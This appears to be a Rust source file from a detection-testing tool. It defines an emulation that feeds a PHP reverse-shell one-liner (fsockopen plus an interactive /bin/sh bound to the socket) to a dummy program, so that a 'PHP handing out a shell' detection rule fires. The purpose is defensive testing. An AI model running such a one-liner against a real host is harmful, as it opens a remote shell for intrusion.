//! PHP's one-liner, given to a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "php-shell",
    title: "PHP told to tie a shell to the network",
    technique: "T1059",
    technique_v18: None,
    needs: &[],
    rules: &["PHP handing out a shell"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("php", &["-r", "$s=fsockopen(\"127.0.0.1\",9);exec(\"/bin/sh -i <&3 >&3 2>&3\");"])
}
